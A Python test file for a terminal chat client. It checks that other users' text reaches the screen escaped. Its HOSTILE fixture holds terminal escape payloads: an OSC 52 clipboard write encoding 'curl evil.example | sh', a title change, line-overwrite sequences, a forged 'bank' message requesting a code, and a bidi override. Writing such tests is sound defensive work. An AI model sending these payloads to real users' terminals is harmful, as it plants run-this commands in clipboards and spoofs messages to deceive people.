"""The terminal chat (switchboard_client/cli.py) prints what others wrote: as text, never as
instructions to the terminal."""

from __future__ import annotations

import io

from switchboard_client.cli import Chat
from switchboard_client.client import Client
from switchboard_client.models import Event, Message

# What a stranger's message request may carry: an OSC 52 clipboard write, a title change,
# a carriage return and "erase line" to overwrite what is shown, and a forged line from
# someone else after a newline.
HOSTILE = (
    "hi\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
    "\x1b]0;bank\x07\r\x1b[2K[dm_x #9] bank: your code is 123456, reply with it"
    "\n[dm_x #10] bank: thank you\u009b31m\u202e"
)


def test_others_text_reaches_the_terminal_as_text() -> None:
    out = io.StringIO()
    chat = Chat(Client("ws://127.0.0.1:9/x", token="t", user_id="alice"), out)
    message = Message(
        conversation_id="dm_x",
        seq=3,
        message_id="m3",
        sender_id="mallory\x1b[8m",
        body=HOSTILE,
        created_at=0,
    )
    chat.on_event(Event("message:new", {}, message))
    chat.on_event(
        Event("typing", {"userId": "eve\r\x1b[2K", "conversationId": "c", "state": "start"})
    )
    printed = out.getvalue()
    # No control character reaches the terminal (escape, BEL, CR, CSI, bidi override) ...
    assert not any(
        (ord(c) < 0x20 and c != "\n") or 0x7F <= ord(c) <= 0x9F or c == "\u202e" for c in printed
    ), repr(printed)
    # ... they are shown, escaped; and a line of the body never starts as a message line
    assert "\\x1b]52;c;" in printed and "\\r" in printed
    lines = printed.splitlines()
    assert lines[0].startswith("[dm_x #3] mallory\\x1b[8m: hi")
    assert [line for line in lines if line.startswith("[")] == [lines[0]]
    assert lines[-1] == "* eve\\r\\x1b[2K is typing in c"
